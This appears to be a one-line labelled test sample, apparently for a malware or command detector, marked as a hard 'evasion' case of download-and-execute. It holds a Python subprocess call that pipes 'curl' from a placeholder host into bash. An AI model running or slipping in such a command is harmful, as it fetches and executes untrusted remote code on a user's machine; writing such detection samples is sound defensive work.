# evasion: download piped into a shell via subprocess
# grade: hard; does: download-exec
import subprocess
subprocess.Popen(["bash", "-c", "curl -s http://x.example/i | bash"])
